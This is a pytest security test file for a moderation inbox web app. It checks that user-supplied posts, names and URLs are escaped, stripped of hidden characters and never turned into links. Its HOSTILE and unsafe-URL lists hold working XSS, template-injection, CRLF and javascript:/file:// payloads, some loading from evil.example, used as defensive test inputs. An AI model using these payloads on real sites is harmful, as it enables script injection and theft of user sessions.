"""Whatever people write is text on our pages: never markup, never a link of its own, never hidden (RULES I2-I9, I13, I16, I23, I24, S7)."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from listener.model.figures import IssueFigures
from moderation.inbox.page_records import ShownMention
from moderation.inbox.show import excerpt, link_host, plainly, web_link
from tests.fakes.staff import AGENT, StaffDay
from tests.fakes.staff_figures import mention_of
from tests.moderation.inbox.conftest import visit

HOSTILE = (
    "<script>alert(1)</script>",
    "</p></li></ol><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<style>*{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button name=csrf>x",
    "<a id=main name=csrf href=javascript:alert(1)>x</a>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "{{7*7}} {% raw %} {{ self }} ${7*7} #{7*7} <%= 7*7 %> %(x)s {0.__class__} {csrf}",
    "javascript:alert(1)",
    "\x00<\x00s\x00cript>alert(1)</script>",
    "\ud83d<script>alert(1)</script>\udc00",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[31m",
    "Z" + "\u0300" * 5000,
    "👩‍👩‍👧‍👦" * 200,
    "@everyone [x](https://evil.example) ![x](https://evil.example/i.png)",
    "\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "",
    " ",
    "a" * 100_000,
)  # fmt: skip


class _Shape(HTMLParser):
    """The tags of a page with their attributes' names: what a browser would build, without the words."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))
        self.links |= {value or "" for name, value in attrs if name in ("href", "src", "action")}


def shape_of(page: str) -> _Shape:
    shape = _Shape()
    shape.feed(page)
    return shape


def written_by(text: str, day: StaffDay) -> StaffDay:
    """Put `text` wherever somebody outside chooses the words: posts, titles, names, addresses, reasons, brands, sources."""

    def mention(number: int) -> ShownMention:
        return mention_of(
            number, text=text, author=text, title="t" + text, url=text, channel="c" + text, platform="mastodon", language=text, copies=1
        )

    def issue(one: IssueFigures) -> IssueFigures:
        quotes = tuple(replace(quote, text=text, author=text, url=text, language=text, platform="reddit") for quote in one.quotes)
        return replace(one, title=text, quotes=quotes, brands=("b" + text, "other"), platforms=("p" + text,), languages=("l" + text, "nl"))

    calm = StaffDay()

    class Written(StaffDay):
        def issue(self, issue_id: int, offset: int, limit: int):  # type: ignore[no-untyped-def]  # as in StaffDay
            found = super().issue(issue_id, offset, limit)
            return found and replace(found, mentions=tuple(mention(n) for n in range(4)), mention_count=4)

        def entry(self, case_id: int):  # type: ignore[no-untyped-def]  # as in StaffDay
            found = super().entry(case_id)
            return found and replace(found, opening=mention(1), brand=text, issue_title=text, why=("w" + text,))

        def digest(self):  # type: ignore[no-untyped-def]  # as in StaffDay
            return replace(super().digest(), brand=text, ideas=self.issues[0].quotes[:1], compliments=self.issues[0].quotes[:1])

    return Written(
        issues=tuple(issue(one) for one in calm.issues),
        coverage=tuple(replace(one, source="s" + text, note="n" + text, kind="k" + text) for one in calm.coverage),
        holders={4: "h" + text},
    )


PATHS = ("/issues", "/issues/1", "/queue", "/cases/1", "/cases/4", "/digest", "/sources", "/issues?lang=en", "/cases/1?lang=en")


def pages_about(text: str, day: StaffDay) -> dict[str, str]:
    """Return every page of a day on which everybody outside wrote `text`."""
    staff = visit(written_by(text, day), reason=lambda signal, language: "r" + text).come_in()
    answers = {path: staff.get(path) for path in PATHS}
    assert {answer.status_code for answer in answers.values()} == {200}
    return {path: answer.text for path, answer in answers.items()}


@pytest.fixture(scope="module")
def plain_shapes() -> dict[str, _Shape]:
    """The same pages about a harmless word."""
    return {path: shape_of(page) for path, page in pages_about("stroom", StaffDay()).items()}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_text_changes_what_a_page_is_made_of(text: str, day: StaffDay, plain_shapes: dict[str, _Shape]) -> None:
    """Same tags, same attributes, same links as with a harmless word: nothing that was written became markup (S7)."""
    ours = {"https", "http"}
    for path, page in pages_about(text, day).items():
        shape = shape_of(page)
        assert shape.found == plain_shapes[path].found, path
        for link in shape.links:
            assert link.startswith("/") or not link or link.split(":")[0] in ours or link.startswith(("?", "#")), (path, link)
        assert "evil.example" not in {link.split("/")[2] for link in shape.links if "//" in link}


def test_templates_are_not_filled_in_by_posts(day: StaffDay) -> None:
    """I13: what comes out is what went in."""
    text = "{{7*7}} ${7*7} %(x)s {0.__class__} {csrf} {n}"
    page = pages_about(text, day)["/cases/1"]
    assert page.count(text) >= 2
    assert "49 " not in page.replace("14:49 ", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\u202eolleh", "⟨U+202E⟩olleh"),
        ("zoem\u200bvolt", "zoem⟨U+200B⟩volt"),
        ("zoem\u00advolt", "zoem⟨U+00AD⟩volt"),
        ("a\U000e0041b", "a⟨U+E0041⟩b"),
        (
            "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
            "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        ),
        ("👩‍👧", "👩‍👧"),
        ("a\x00b\x1b[31m\x7f\x9b", "a␀b␛[31m␡⟨U+009B⟩"),
        ("half \ud83d", "half \ufffd"),
        ("one\r\ntwo\rthree\ttab", "one\n\ntwo\nthree\ttab"),
        ("Größe, één, naïef, Ĳsselmeer", "Größe, één, naïef, Ĳsselmeer"),
    ],
)
def test_hidden_characters_are_shown(text: str, shown: str) -> None:
    """A reader sees that something hides, and an agent copies what is really there (I2-I4, I16)."""
    assert plainly(text) == shown


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https://user:pass@evil.example/",
        "https://x.example@evil.example/",
        "https://",
        "https:///path",
        "https://a.example:99999999/",
        "https://[fe80::1%25eth0/",
        "https://a.example/\x00",
        "https://a.example/\ud800",
        "https://a.example/ onclick=x",
        "https://a.example/" + "x" * 2000,
        "",
    ],
)
def test_an_address_nobody_should_follow_is_no_link(url: str) -> None:
    """I24: one click on our page must not run anything or show one place and go to another."""
    assert web_link(url) == ""
    assert link_host(url) == ""


def test_good_addresses_are_links_and_show_where_they_go() -> None:
    for url, host in (
        ("https://forum.example/a?b=c#d", "forum.example"),
        ("http://10.0.0.1:8080/x", "10.0.0.1"),
        ("https://xn--zoemvlt-5xb.example/", "xn--zoemvlt-5xb.example"),
    ):
        assert web_link(url) == url
        assert link_host(url) == host


def test_long_texts_are_cut_between_characters() -> None:
    """I6, I8: never half a family, and never 10 MB on a page."""
    family = "👩‍👩‍👧‍👦"
    cut = excerpt(family * 100, 50)
    assert cut.endswith("…")
    assert set(cut[:-1].split(family)) == {""}
    assert len(str(plainly("regel\n" * 100_000))) <= 20_000
    assert excerpt("een\n\n  twee\tdrie", 40) == "een twee drie"


def test_ten_megabytes_in_one_post_do_not_stop_a_page(day: StaffDay) -> None:
    page = pages_about("x" * 10_000_000, day)["/cases/1"]
    assert len(page) < 200_000


def test_the_agents_own_name_is_text_too(day: StaffDay) -> None:
    staff = visit(day)
    staff.agent = "<b>Fenna</b>" + AGENT
    page = staff.come_in().get("/queue").text
    assert "&lt;b&gt;Fenna" in page
    assert "<b>Fenna" not in page
